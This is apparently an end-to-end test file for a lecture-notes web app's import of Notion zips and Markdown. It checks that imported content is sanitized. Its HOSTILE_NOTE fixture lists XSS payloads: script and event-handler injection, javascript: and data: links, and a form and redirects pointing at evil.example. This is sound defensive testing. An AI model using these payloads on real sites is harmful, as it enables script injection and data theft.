/**
 * Importing one's own lectures: a Notion export (.zip) with nested pages, an image and links between
 * pages; the seed lecture as a Markdown file; a folder. Each is compiled in a worker, stored on the
 * device, listed under "My lectures" in the tree, readable, searchable, renamable, replaceable and
 * deletable. Bad files get a message naming the cause and leave what is stored untouched.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { strToU8, zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { setUpBrowser, setUpSetting, watchedPage } from './support';
import { skipWithoutShared } from '../setup/shared';

const site = setUpBrowser();
const seedPath = resolve(import.meta.dirname, '../../../shared/seed/day35-multimodal-3d.notion.md');

const ROOT_ID = '0123456789abcdef0123456789abcdef';
const SUB_ID = 'fedcba9876543210fedcba9876543210';
/** A real image the browser decodes: the app's own icon, 192 × 192. */
const PNG = readFileSync(resolve(import.meta.dirname, '../../public/icons/icon-192.png'));

/** A Notion export: a page, its folder with a sub-page and an image, and a database CSV. */
function notionZip(): Buffer {
  const root = `신호 처리 노트 ${ROOT_ID}`;
  const sub = `푸리에 변환 ${SUB_ID}`;
  const rootPage = [
    '# 신호 처리 노트',
    '',
    '## 샘플링',
    '',
    '주파수 해상도는 $\\Delta f = f_s / N$ 입니다.',
    '',
    `![스펙트럼](${encodeURIComponent(root)}/spectrum.png)`,
    '',
    `다음 주제: [푸리에 변환](${encodeURIComponent(root)}/${encodeURIComponent(sub)}.md)`,
    '',
    '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">',
    '',
    '[위험한 링크](javascript:window.__pwned=3)',
  ].join('\n');
  const subPage = [
    '# 푸리에 변환',
    '',
    '## 이산 푸리에 변환',
    '',
    '켑스트럼과 스펙트로그램을 잇는 변환입니다.',
    '',
    '$$',
    'X_k = \\sum_{n=0}^{N-1} x_n e^{-2\\pi i k n / N}',
    '$$',
  ].join('\n');
  return Buffer.from(
    zipSync({
      [`${root}.md`]: strToU8(rootPage),
      [`${root}/${sub}.md`]: strToU8(subPage),
      [`${root}/spectrum.png`]: new Uint8Array(PNG),
      [`${root}/표 ${SUB_ID}.csv`]: strToU8('a,b\n1,2\n'),
    }),
  );
}

async function importFiles(page: Page, files: { name: string; mimeType: string; buffer: Buffer }[]) {
  await page.getByLabel('Markdown 파일 또는 Notion 내보내기(.zip) 고르기').setInputFiles(files);
}

const status = (page: Page) => page.locator('.import-status');

describe.each(['root', 'file'] as const)('importing a Notion export, served from %s', (kind) => {
  const served = setUpSetting(kind);

  it('lists it under "My lectures", reads its pages with formulas, images and links, finds it in search, and keeps it across a reload', async () => {
    const { page, context, errors } = await watchedPage(site.browser);
    await page.goto(served.setting.baseUrl + 'my-lectures.html');
    await importFiles(page, [{ name: 'Export-1a2b.zip', mimeType: 'application/zip', buffer: notionZip() }]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');
    expect(await status(page).textContent()).toContain('주제 2개');
    // the database table is not a page: the report says it was skipped, with its file
    const report = page.locator('.import-problems');
    await expect(report.textContent()).resolves.toMatch(/표\.csv|표 fedcba/);

    // the tree lists the lecture and its topics, without Notion's ids
    // the lecture is its one page; its sub-page is under it
    const tree = page.getByRole('navigation', { name: '주제 목록' });
    await expect(tree.getByRole('link', { name: '신호 처리 노트' }).count()).resolves.toBe(1);
    await expect(tree.getByRole('link', { name: '푸리에 변환' }).count()).resolves.toBe(0);
    await tree.getByRole('button', { name: '펼치기: 신호 처리 노트' }).click();
    await expect(tree.getByRole('link', { name: '푸리에 변환' }).count()).resolves.toBe(1);

    await page.getByRole('link', { name: '바로 읽기' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('신호 처리 노트');
    const body = page.locator('.note-body');
    expect(await body.locator('.katex').count()).toBeGreaterThan(0);
    const image = body.locator('img');
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(192);
    expect(await image.getAttribute('src')).toMatch(/^blob:/);
    // raw HTML and a javascript: link are inert
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await body.locator('script, [onerror], a[href^="javascript:"]').count()).toBe(0);

    // a link between imported pages opens the other page
    await body.getByRole('link', { name: '푸리에 변환' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('푸리에 변환');
    expect(await page.locator('.note-body .katex-display').count()).toBe(1);
    await expect(page.getByRole('navigation', { name: '이 페이지에서' }).getByRole('link', { name: '이산 푸리에 변환' }).count()).resolves.toBe(1);

    // searchable, from any page
    await page.goto(served.setting.baseUrl + 'stft.html');
    await page.keyboard.press('/');
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('combobox').fill('켑스트럼');
    // the one section with the word comes first, though the course's sections are many
    const hit = dialog.getByRole('option').first();
    await expect.poll(() => hit.textContent(), { timeout: 15_000 }).toContain('이산 푸리에 변환');
    await expect(dialog.getByRole('group', { name: '푸리에 변환', exact: true }).count()).resolves.toBe(1);
    await hit.click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('푸리에 변환');

    await page.reload();
    await expect.poll(() => page.locator('h1').textContent()).toBe('푸리에 변환');
    // a bookmark on an imported heading opens it from the home page
    await page.getByRole('link', { name: '이 위치의 링크와 책갈피: 이산 푸리에 변환' }).click();
    await page.getByRole('button', { name: '책갈피에 추가' }).click();
    await page.goto(served.setting.baseUrl + 'index.html');
    await page.locator('.bookmark-list').getByRole('link', { name: '이산 푸리에 변환' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('푸리에 변환');
    expect(decodeURIComponent(page.url())).toMatch(/my-lectures\.html\?lecture=[^&]+&topic=[^#]+#이산-푸리에-변환$/);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('managing imported lectures', () => {
  const served = setUpSetting('root');

  it('re-importing asks before replacing; renaming and deleting change the list and the tree', async () => {
    const { page, context, errors } = await watchedPage(site.browser);
    await page.goto(served.setting.baseUrl + 'my-lectures.html');
    const zip = { name: 'Export-1a2b.zip', mimeType: 'application/zip', buffer: notionZip() };
    await importFiles(page, [zip]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');

    const list = page.locator('.imported-lectures');
    page.once('dialog', (dialog) => void dialog.dismiss());
    await importFiles(page, [zip]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toBe('바꾸지 않았습니다. 예전 강의를 그대로 두었습니다.');
    page.once('dialog', (dialog) => void dialog.accept());
    await importFiles(page, [zip]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('새로 가져온 것으로 바꿨습니다');
    await expect(list.locator('li').count()).resolves.toBe(1);

    await list.getByRole('button', { name: '이름 바꾸기: 신호 처리 노트' }).click();
    await list.getByLabel('새 이름').fill('DSP 요약');
    await list.getByRole('button', { name: '저장' }).click();
    await expect.poll(() => list.getByRole('link', { name: 'DSP 요약' }).count()).toBe(1);
    const tree = page.getByRole('navigation', { name: '주제 목록' });
    await expect.poll(() => tree.getByRole('link', { name: 'DSP 요약' }).count()).toBe(1);

    page.once('dialog', (dialog) => void dialog.accept());
    await list.getByRole('button', { name: '지우기: DSP 요약' }).click();
    await expect.poll(() => list.textContent()).toContain('아직 가져온 강의가 없습니다');
    await expect.poll(() => tree.getByRole('link', { name: 'DSP 요약' }).count()).toBe(0);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('refuses a file that is not Markdown, a corrupt zip and a zip with too many entries, naming the cause; what is stored stays', async () => {
    const { page, context, errors } = await watchedPage(site.browser);
    await page.goto(served.setting.baseUrl + 'my-lectures.html');
    await importFiles(page, [{ name: 'Export-1a2b.zip', mimeType: 'application/zip', buffer: notionZip() }]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');

    const alert = page.getByRole('alert');
    await importFiles(page, [{ name: 'slides.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4') }]);
    await expect.poll(() => alert.textContent(), { timeout: 30_000 }).toMatch(/가져오지 못했습니다.*slides\.pdf/);

    await importFiles(page, [{ name: 'broken.zip', mimeType: 'application/zip', buffer: notionZip().subarray(0, 200) }]);
    await expect.poll(() => alert.textContent(), { timeout: 30_000 }).toMatch(/broken\.zip/);

    const many: Record<string, Uint8Array> = {};
    for (let i = 0; i <= 5000; i++) many[`n${i}.md`] = strToU8('#');
    await importFiles(page, [{ name: 'many.zip', mimeType: 'application/zip', buffer: Buffer.from(zipSync(many, { level: 0 })) }]);
    await expect.poll(() => alert.textContent(), { timeout: 30_000 }).toMatch(/5,?000/);

    await page.reload();
    await expect.poll(() => page.locator('.imported-lectures li').count()).toBe(1);
    await expect(page.locator('.imported-lectures').textContent()).resolves.toContain('신호 처리 노트');
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('carrying imported lectures to another browser', () => {
  const served = setUpSetting('file');

  it('exports them with everything else, and a fresh browser restores them, renamed, with images and read marks', async () => {
    const first = await watchedPage(site.browser);
    await first.page.goto(served.setting.baseUrl + 'my-lectures.html');
    await importFiles(first.page, [{ name: 'Export-1a2b.zip', mimeType: 'application/zip', buffer: notionZip() }]);
    await expect.poll(() => status(first.page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');
    await first.page.getByRole('button', { name: '이름 바꾸기: 신호 처리 노트' }).click();
    await first.page.getByLabel('새 이름').fill('내 신호 처리');
    await first.page.getByRole('button', { name: '저장' }).click();
    await first.page.locator('.imported-lectures').getByRole('link', { name: '내 신호 처리' }).click();
    await first.page.getByRole('button', { name: '다 읽음' }).click();
    await first.page.goto(served.setting.baseUrl + 'index.html');
    const [download] = await Promise.all([first.page.waitForEvent('download'), first.page.getByRole('button', { name: '파일로 내보내기' }).click()]);
    const content = readFileSync(await download.path());
    const exported = JSON.parse(content.toString('utf8')) as {
      version: number;
      lectures: { title: string; sources: unknown[]; assets: Record<string, unknown> }[];
    };
    expect(exported.version).toBe(2);
    expect(exported.lectures.map((l) => [l.title, l.sources.length, Object.keys(l.assets).length])).toEqual([['내 신호 처리', 2, 1]]);
    expect(first.errors).toEqual([]);
    await first.context.close();

    const second = await watchedPage(site.browser);
    await second.page.goto(served.setting.baseUrl + 'index.html');
    await second.page.locator('#study-data-import').setInputFiles({ name: 'study-notes.json', mimeType: 'application/json', buffer: content });
    await expect.poll(() => second.page.locator('.notice').textContent(), { timeout: 30_000 }).toContain('내 강의 1개');
    const tree = second.page.getByRole('navigation', { name: '주제 목록' });
    await tree.getByRole('link', { name: '내 신호 처리' }).click();
    await expect.poll(() => second.page.locator('h1').textContent()).toBe('신호 처리 노트');
    const image = second.page.locator('.note-body img');
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(192);
    await expect(second.page.getByRole('button', { name: '다 읽음' }).getAttribute('aria-pressed')).resolves.toBe('true');
    expect(second.errors).toEqual([]);
    await second.context.close();
  });
});

/** Markdown a hostile or careless author might bring: every way we know to run code, leave the site or cover the page. */
const HOSTILE_NOTE = [
  '# Hostile',
  '',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svg script"</script><a href="javascript:window.__pwned=1"><text>svg link</text></a></svg>',
  '<iframe src="javascript:window.__pwned = \'iframe\'"></iframe><object data="data:text/html,<script>parent.__pwned=1</script>"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.__pwned = \'focus\'"><button>send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body { display: none }</style>',
  '<div style="position: fixed; inset: 0; z-index: 9999; background: red">covering the page</div>',
  '',
  "[js link](javascript:window.__pwned='link') [data link](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)",
  '',
  '![remote tracker](https://evil.example/pixel.png) ![data svg](data:image/svg+xml,<svg%20onload=alert(1)>)',
  '',
  'TeX: $\\href{javascript:window.__pwned=1}{click}$ and $\\url{javascript:alert(1)}$ and $\\htmlStyle{position:fixed;inset:0}{x}$',
  '',
  '## Main',
  '',
  '## Top',
  '',
  'The end.',
].join('\n');

describe('what a reader brings in never runs', () => {
  const served = setUpSetting('root');

  it('no script, dialog, navigation, request off the site or overlay, and no id of the page taken', async () => {
    const { page, context, errors } = await watchedPage(site.browser);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const offSite: string[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (!['127.0.0.1', 'localhost'].includes(url.hostname) && !['blob:', 'data:'].includes(url.protocol)) offSite.push(request.url());
    });
    await page.goto(served.setting.baseUrl + 'my-lectures.html');
    await importFiles(page, [{ name: 'hostile.md', mimeType: 'text/markdown', buffer: Buffer.from(HOSTILE_NOTE) }]);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('가져왔습니다');
    await page.getByRole('link', { name: '바로 읽기' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('Hostile');
    const url = page.url();
    const body = page.locator('.note-body');
    await body.getByText('The end.').waitFor();
    // links and the form do nothing when used
    for (const name of ['js link', 'data link', 'vb']) {
      const link = body.getByText(name, { exact: true });
      if (await link.count()) await link.click();
    }
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(page.url()).toBe(url);
    expect(offSite).toEqual([]);
    // (a task list's checkbox is the one input a note may have: disabled)
    expect(
      await body
        .locator(
          'script, iframe, object, embed, form, input:not([type="checkbox"][disabled]), textarea, meta, base, link, style, [onerror], [onload], [onfocus], [style*="fixed"]',
        )
        .count(),
    ).toBe(0);
    expect(await body.locator('a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"], img[src^="http"], img[src^="data:"]').count()).toBe(0);
    // the page is visible and nothing of the note covers it
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
    const covering = await page.evaluate(() => {
      const hit = document.elementFromPoint(innerWidth / 2, 10);
      return hit?.closest('.note-body') ? hit.outerHTML.slice(0, 80) : null;
    });
    expect(covering).toBeNull();
    // the note's headings Main and Top did not take the page's ids
    const ids = await page.evaluate(() => [...document.querySelectorAll('[id]')].map((e) => e.id));
    expect(ids.length).toBe(new Set(ids).size);
    expect(await page.locator('#main').evaluate((e) => e.tagName)).toBe('MAIN');
    expect(await page.locator('#top').textContent()).toBe('Hostile');
    // a heading's link is the imported topic's address
    expect(await body.locator('a[data-copy-anchor="main-1"]').getAttribute('href')).toBe('?lecture=hostile&topic=hostile#main-1');
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe.skipIf(skipWithoutShared(seedPath))('importing the seed lecture note', () => {
  const served = setUpSetting('file');

  it('shows a registered diagram in place of each lost figure, and its sections in the contents', async () => {
    const { page, context, errors } = await watchedPage(site.browser);
    await page.goto(served.setting.baseUrl + 'my-lectures.html');
    const name = 'Day 35 Multi-modal learning 3D understanding e052c2133c124b0997f39549fc02b26a.md';
    await importFiles(page, [{ name, mimeType: 'text/markdown', buffer: readFileSync(seedPath) }]);
    await expect.poll(() => status(page).textContent(), { timeout: 60_000 }).toContain('가져왔습니다');
    await page.getByRole('link', { name: '바로 읽기' }).click();
    await expect.poll(() => page.locator('h1').first().textContent()).toContain('Multi-modal');
    const figures = page.locator('.note-body figure.diagram svg');
    await expect.poll(() => figures.count()).toBe(36);
    // one h1, the title; the note's sections are in the page's contents
    await expect(page.locator('h1').count()).resolves.toBe(1);
    const contents = page.getByRole('navigation', { name: '이 페이지에서' });
    await expect(contents.getByRole('link', { name: '3D understanding', exact: true }).count()).resolves.toBe(1);
    await contents.getByRole('link', { name: 'Multi-modal tasks (2) - Visual data & Audio' }).click();
    await expect
      .poll(() => page.evaluate(() => Math.round(document.getElementById(decodeURIComponent(location.hash.slice(1)))!.getBoundingClientRect().top)))
      .toBeLessThan(200);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('importing from another language page', () => {
  const served = setUpSetting('sub-path');

  it('works in English under a sub-path, from a folder of Markdown files', async () => {
    const { page, context, errors } = await watchedPage(site.browser, { locale: 'en-US' });
    await page.goto(served.setting.baseUrl + 'en/my-lectures.html');
    const folder = join(mkdtempSync(join(tmpdir(), 'import-')), 'week-1');
    mkdirSync(folder);
    writeFileSync(join(folder, 'intro.md'), '# Intro\n\nSee [the next note](next.md#details).');
    writeFileSync(join(folder, 'next.md'), '# Next\n\n## Details\n\nA footnote[^1].\n\n[^1]: Here it is.');
    await page.getByLabel('Choose a folder').setInputFiles(folder);
    await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toContain('Imported');
    await page.getByRole('link', { name: 'Read it' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('Intro');
    await page.locator('.note-body').getByRole('link', { name: 'the next note' }).click();
    await expect.poll(() => page.locator('h1').textContent()).toBe('Next');
    expect(decodeURIComponent(new URL(page.url()).hash)).toBe('#details');
    expect(await page.locator('.note-body .footnotes li').count()).toBe(1);
    expect(errors).toEqual([]);
    await context.close();
  });
});
